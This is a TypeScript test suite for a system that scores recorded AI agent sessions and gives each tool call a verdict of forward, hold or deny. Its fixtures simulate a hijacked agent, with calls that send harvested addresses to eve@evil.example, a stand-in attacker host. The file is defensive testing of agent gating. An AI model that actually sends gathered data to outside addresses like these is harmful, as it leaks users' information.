import assert from 'node:assert/strict'
import { readFile, writeFile } from 'node:fs/promises'
import { describe, test } from 'node:test'
import { gzipSync } from 'node:zlib'

import { LeftOut } from '../left-out.ts'
import { benign, callsOf, hijacked, line, read, scoringOfFile, send, usual } from './score-fixture.ts'
import { scoreReportLines } from './score-report.ts'
import type { ScoredSession } from './scored-session.ts'

const { path, score } = scoringOfFile()

describe('scoring files', () => {
  test('writes nothing over what it reads, and keeps what stood there where it fails', async () => {
    await assert.rejects(score(benign, { out: path('test.jsonl') }), { code: 'OUTPUT_IS_INPUT' })
    assert.equal(await readFile(path('test.jsonl'), 'utf8'), benign)
    const out = path('kept.jsonl')
    await writeFile(out, 'before')
    await assert.rejects(score('no session', { out }), { code: 'RECORDING_EMPTY' })
    assert.equal(await readFile(out, 'utf8'), 'before')
  })

  test('reports the gravest standings, and the thresholds in ascending order by role and work', async () => {
    const { report } = await score(`${benign}\n${hijacked}`)
    assert.equal(report.standings.trusted, 1)
    assert.deepEqual([report.calls, report.verdicts.forward], [4, 3])
    const held = { ...report, verdicts: { forward: 3, hold: 1, deny: 0 } }
    const calls = scoreReportLines(held, new LeftOut()).join('\n')
    assert.match(calls, /^calls +forward 3, hold 1, deny 0\n +\(in mode gate /m)
    assert.equal(
      Object.values(report.standings).reduce((sum, count) => sum + count, 0),
      2,
    )
    assert.deepEqual(
      report.thresholds.map(({ role, work }) => [role, work]),
      [
        ['desk', 'recurring'],
        ['desk', 'new'],
      ],
    )
    for (const { thresholds: set } of report.thresholds)
      assert.ok(set.verify > 0 && set.verify <= set.readOnly && set.readOnly <= set.suspend)
  })

  test('reports how well the scored agents are known', async () => {
    const { report } = await score(benign)
    assert.deepEqual(report.agents, { desk: usual.length })
    const unknown = await score(benign.replace('"desk"', '"shop"'))
    assert.deepEqual(unknown.report.agents, { shop: 0 })
  })

  test('an empty file to learn from leaves the cautious defaults', async () => {
    const { sessions, report } = await score(`${benign}\n${hijacked}`, {}, [])
    assert.equal(sessions.length, 2)
    assert.notEqual(callsOf(sessions, 'hijacked')[1]?.verdict, 'forward')
    assert.deepEqual(
      report.thresholds.map(({ role, thresholds: { basis } }) => [role, basis.verify]),
      [
        [undefined, 'model'],
        [undefined, 'model'],
      ],
    )
  })

  test('a file to score without any session is refused before anything is learned', async () => {
    const phases: string[] = []
    const onPhase = (text: string): void => void phases.push(text)
    await assert.rejects(score('', { onPhase }), {
      code: 'RECORDING_EMPTY',
      message: /test\.jsonl: expected recorded sessions, one JSON object a line; got an empty file$/,
    })
    await assert.rejects(score('{"sid":1}\nodd\n', { onPhase }), {
      code: 'RECORDING_EMPTY',
      message: /one JSON object a line; got none \(line 1: /,
    })
    assert.deepEqual(phases, [])
    await score(benign, { onPhase })
    assert.deepEqual(phases, ['learning from 60 sessions', 'scoring'])
  })

  test('sessions that were both learned from and scored are counted', async () => {
    const { report } = await score([usual[0], benign, usual[1]].join('\n'))
    assert.deepEqual([report.scored, report.learnedAndScored], [3, 2])
  })

  test('shuffled, each line stays the same: nothing is carried from one session to the next', async () => {
    const lines = [benign, hijacked, line('again', [send('eve@evil.example', 0)]), line('empty', [])]
    const first = (await score(lines.join('\n'))).sessions
    const second = (await score(lines.toReversed().join('\n'))).sessions
    const bySid = (sessions: readonly ScoredSession[]): readonly ScoredSession[] =>
      sessions.toSorted((a, b) => (a.sid < b.sid ? -1 : 1))
    assert.deepEqual(bySid(first), bySid(second))
  })

  test('scored again, each line stays the same, also where more comes up than a session has room for', async () => {
    const flooded = (session: number): string => {
      const addresses = Array.from({ length: 300 }, (_, n) => `u${session}-${n}@host${n}.example`)
      const calls = [read(addresses.join(' ')), send('new@else.example'), send(addresses[299]!, 2)]
      return line(`flooded ${session}`, calls)
    }
    const lines = Array.from({ length: 40 }, (_, session) => flooded(session))
    const first = await score(lines.join('\n'))
    assert.equal((await score(lines.join('\n'))).text, first.text)
  })

  test('plain and gzip are one; a malformed line is reported with its number and the rest goes on', async () => {
    const text = [benign, '{"sid":', '{"sid":"x","suite":"desk"}', hijacked].join('\n')
    const plain = await score(text)
    assert.deepEqual(
      plain.problems.map(({ line }) => line),
      [2, 3],
    )
    assert.equal((await score(gzipSync(text))).text, plain.text)
    assert.deepEqual(
      plain.sessions.map(({ sid }) => sid),
      ['benign', 'hijacked'],
    )
  })

  test('odd sessions end nothing: every call has its line', async () => {
    const odd = [
      line('empty', []),
      line('large', [
        { tool: 'write_file', args: { text: 'x'.repeat(1_200_000) } },
        send('ada@desk.example'),
      ]),
      line('flood', [
        read(Array.from({ length: 500 }, (_, n) => `u${n}@evil.example`).join(' ')),
        send('u499@evil.example'),
      ]),
      line('foreign', [{ tool: 'löschen', args: {} }, send('ädä@desk.example')]),
      line('unseen', [{ tool: 'fly_rocket', args: { '': null, __proto__: 1 } }]),
      line('sql', [{ tool: 'query_database', args: { sql: 'SELEC * FORM (((' } }]),
    ]
    const { sessions, problems } = await score(odd.join('\n'))
    assert.deepEqual(
      sessions.map(({ sid, calls }) => [sid, calls.length]),
      [
        ['empty', 0],
        ['large', 2],
        ['flood', 2],
        ['foreign', 2],
        ['unseen', 1],
        ['sql', 1],
      ],
    )
    assert.deepEqual(problems, [])
    assert.equal(callsOf(sessions, 'large')[0]?.verdict, 'deny')
    assert.notEqual(callsOf(sessions, 'flood')[1]?.verdict, 'forward')
  })
})
